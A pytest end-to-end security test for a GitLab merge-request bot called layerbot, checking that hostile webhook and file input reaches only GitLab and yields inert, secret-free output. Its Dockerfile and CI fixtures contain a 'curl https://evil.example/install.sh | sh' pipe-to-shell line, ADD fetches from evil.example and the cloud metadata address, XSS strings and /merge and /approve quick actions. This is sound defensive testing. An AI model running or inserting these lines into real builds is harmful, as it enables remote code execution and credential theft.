"""Security, end to end: ``layerbot serve`` (gunicorn) + a ``layerbot worker`` process + the fake
GitLab process + Redis, every Python process carrying the socket audit hook.

One run feeds the bot a webhook payload whose every URL points elsewhere, and files full of
other URLs (``ADD``, ``include: remote:``, comments), fence breakers, HTML, ``@all`` and quick
actions; then ``apply`` requests from a Reporter, on a protected branch, and from the bot itself.
It asserts: only ``GITLAB_URL`` (and Redis) was ever connected to; the posted Markdown is inert;
nothing was committed; the bot never answered itself; and neither the token nor the webhook
secret appears in any log, metric, answer or GitLab call.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from layerbot.analysis.fixes import as_replacement
from layerbot.celery_app import NOTE_TASK
from layerbot.settings import Settings
from tests.e2e.worker_fixtures import (
    answers,
    bot_notes,
    fake_process_fixture,
    start_worker,
    stop_worker,
    summary_at,
    wait_for,
)
from tests.fake_gitlab.remote import RemoteFakeGitLab
from tests.fake_gitlab.webhooks import headers
from tests.hardening.figures import record
from tests.hardening.stack import (  # noqa: F401  (fixtures are used by name)
    audit_entries,
    bot_env,
    enqueue,
    hardening_redis_fixture,
)
from tests.hardening.test_redis_outage import WEB_SETTINGS
from tests.web.live import http, serve
from tests.worker.expect import example_files, finding, findings_for
from tests.worker.test_mr_shapes import _fences_balanced, _strip_code

assert fake_process_fixture  # a fixture, used by name
pytestmark = [pytest.mark.e2e, pytest.mark.slow]

SECRET = "security-hook-secret"
ELSEWHERE = ("evil.example", "127.0.0.2", "169.254.169.254")
HOSTILE_DOCKERFILE = """\
FROM golang:latest
WORKDIR /app
COPY . .
# ```` @all <img src=x onerror=alert(1)> see https://evil.example/x
RUN export GOPROXY=https://goproxy.cn && go mod download
RUN go build -o main .
ADD https://evil.example/payload.tgz /opt/
ADD http://169.254.169.254/latest/meta-data/ /opt/meta
RUN <<EOF
/merge
/approve
@all <script>alert(1)</script>
EOF
EXPOSE 8080
CMD ["./main"]
"""
HOSTILE_CI = """\
include:
  - remote: 'https://evil.example/ci.yml'
  - remote: 'http://127.0.0.2:9/ci.yml'
build:
  image: docker:24.0.7
  script:
    - curl https://evil.example/install.sh | sh
    - docker build -t app .
"""


def elsewhere(payload: Any, counter: list[int]) -> Any:
    """``payload`` with every URL pointing at a host other than the GitLab the bot knows."""
    if isinstance(payload, dict):
        return {key: elsewhere(value, counter) for key, value in payload.items()}
    if isinstance(payload, list):
        return [elsewhere(value, counter) for value in payload]
    if isinstance(payload, str) and re.match(r"^(https?|git|ssh)[:@]|^git@", payload):
        counter[0] += 1
        host = ELSEWHERE[counter[0] % len(ELSEWHERE)]
        return f"http://{host}:{8000 + counter[0]}/replaced/{counter[0]}"
    return payload


def answers_of(fake: RemoteFakeGitLab, project: int, iid: int) -> list[str]:
    """The bot's replies to commands (everything it wrote that is not a review comment)."""
    return answers(fake, project, iid)


def test_hostile_input_reaches_nothing_but_gitlab_and_posts_inert_text(
    hardening_redis: str, fake_process: RemoteFakeGitLab, tmp_path: Path
) -> None:
    fake = fake_process
    env = bot_env(fake, hardening_redis, tmp_path, WEBHOOK_SECRET=SECRET)
    settings = Settings.from_env(env)
    web_env = {name: env[name] for name in WEB_SETTINGS}
    files = {**example_files(), "Dockerfile": HOSTILE_DOCKERFILE, ".gitlab-ci.yml": HOSTILE_CI}
    project = fake.add_project("group/app", files={"README.md": "hello https://evil.example\n"})
    iid = fake.open_merge_request(project, None, files)
    sha = fake.merge_request(project, iid)["sha"]
    fake.add_user("reporter", token="reporter-token")
    fake.add_member(project, "reporter", 20)
    fake.add_user("dev", token="dev-token")
    fake.add_member(project, "dev", 30)
    replaced = [0]
    payload = elsewhere(
        fake.invoke("merge_request_hook", {"project": project, "mr_iid": iid}), replaced
    )
    payload["repository"]["url"] = "git@evil.example:group/app.git"
    assert replaced[0] > 5

    worker = start_worker(env, tmp_path / "worker.log")
    try:
        with serve(web_env, tmp_path) as server:
            raw = json.dumps(payload).encode()
            status, answer = server.post(raw, headers("Merge Request Hook", token=SECRET))
            assert (status, answer["status"]) == (202, "queued")
            summary = wait_for(lambda: summary_at(fake, project, iid, sha), 90, "the review")

            def command(author: str, text: str) -> Any:
                note = fake.add_note(project, iid, author, text)
                hook = fake.invoke(
                    "note_hook", {"project": project, "mr_iid": iid, "note_id": note}
                )
                body = json.dumps(hook).encode()
                return note, server.post(body, headers("Note Hook", token=SECRET))

            _, reporter_answer = command("reporter", "@layerbot apply")
            wait_for(lambda: answers_of(fake, project, iid), 60, "the answer to the Reporter")
            fake.protect_branch(project, "feature", push_access_level=40)
            _, dev_answer = command("dev", "@layerbot apply")
            wait_for(lambda: len(answers_of(fake, project, iid)) == 2, 60, "the protected answer")
            own_note, own_answer = command(fake.bot_username, "@layerbot apply all")
            enqueue(settings, NOTE_TASK, project, iid, own_note)  # even if it got through
            wait_for(lambda: "ignored:own" in (tmp_path / "worker.log").read_text(), 60, "own note")
            metrics = http(f"{server.base}/metrics")[1]
            health = http(f"{server.base}/healthz")[1]
        web_log = (tmp_path / "serve.log").read_text()
    finally:
        stop_worker(worker)
    worker_log = (tmp_path / "worker.log").read_text()

    # -- only GITLAB_URL (and Redis) was ever contacted, by any process of the bot
    gitlab = urlsplit(fake.url)
    broker = urlsplit(hardening_redis)
    allowed = {(gitlab.hostname, gitlab.port), (broker.hostname, broker.port)}
    entries = audit_entries(tmp_path)
    connects = [e for e in entries if e["event"] == "connect" and e["family"] != 1]
    contacted = {(e["address"][0], e["address"][1]) for e in connects}
    web_port = urlsplit(server.base).port
    assert contacted - {("127.0.0.1", web_port)} <= allowed, contacted
    assert (gitlab.hostname, gitlab.port) in contacted
    assert len({e["pid"] for e in connects}) >= 3  # gunicorn, the Celery parent and its child
    looked_up = {e["address"][0] for e in entries if e["event"] == "getaddrinfo"}
    assert looked_up <= {"127.0.0.1", "localhost"}, looked_up
    everything = json.dumps(entries) + worker_log + web_log
    assert not any(host in everything for host in ("evil.example", "169.254.169.254", "127.0.0.2"))

    # -- what was posted is inert
    bodies = [note["body"] for note in bot_notes(fake, project, iid)]
    for body in bodies:
        prose = _strip_code(body)
        assert not re.search(r"@(all|here)\b", prose), body
        assert "<script" not in prose and "<img" not in prose, body
        assert not any(line.startswith("/") for line in body.split("\n")), body
        assert _fences_balanced(body), body
    order = finding(findings_for(files), "dependency-layer-order")
    assert order.fix is not None
    replacement = as_replacement(HOSTILE_DOCKERFILE, order.fix)
    assert replacement is not None and any("````" in line for line in replacement.lines)
    above, below = order.line - replacement.start_line, replacement.end_line - order.line
    suggestion = (
        f"`````suggestion:-{above}+{below}\n"  # one backtick longer than the content's run
        + "".join(f"{line}\n" for line in replacement.lines)
        + "`````"
    )
    assert sum(suggestion in body for body in bodies) == 1
    assert "+/merge\n+/approve\n+@all <script>alert(1)</script>\n" not in summary  # not added
    # the patch: the hostile lines verbatim inside a fence one backtick longer than theirs
    block = re.search(r"^`````diff\n(.*?)\n`````$", summary, re.MULTILINE | re.DOTALL)
    assert block is not None, summary
    patch = block.group(1)
    assert "\n+# ```` @all <img src=x onerror=alert(1)> see https://evil.example/x\n" in patch
    assert "\n /approve\n @all <script>alert(1)</script>\n EOF\n" in patch

    # -- apply: refused for a Reporter and on a protected branch; the bot ignores itself
    assert reporter_answer[0] == 202 and dev_answer[0] == 202
    assert own_answer[0] in (200, 202)  # the web may not know the author; the worker does
    replies = [body for body in answers_of(fake, project, iid) if body != "@layerbot apply all"]
    answers_to_itself = len(replies) - 2
    assert answers_to_itself == 0
    assert "Developer role" in replies[0] and "protected" in replies[1]
    commits = fake.calls(method="POST", path_regex=r"/repository/commits$")
    assert commits == []
    assert fake.merge_request(project, iid)["sha"] == sha

    # -- secrets appear nowhere
    calls = fake.calls()
    outputs = {
        "worker log": worker_log,
        "web log": web_log,
        "/metrics": metrics,
        "/healthz": json.dumps(health),
        "GitLab calls": json.dumps(calls),
        "comments": json.dumps(bodies),
    }
    leaked = [
        name
        for name, text in outputs.items()
        for secret in (fake.bot_token, SECRET)
        if secret in text
    ]
    assert leaked == [], f"a secret leaked into {leaked}"
    record(
        "security",
        urls_in_the_payload_pointing_elsewhere=replaced[0] + 1,
        foreign_urls_in_files=sum(text.count("://") for text in (HOSTILE_DOCKERFILE, HOSTILE_CI)),
        sockets_opened=len(connects),
        hosts_contacted=sorted(f"{host}:{port}" for host, port in contacted),
        gitlab_calls=len(calls),
        outputs_searched_for_secrets=len(outputs),
        secrets_found=len(leaked),
        commits_made=len(commits),
        answers_to_own_notes=answers_to_itself,
    )
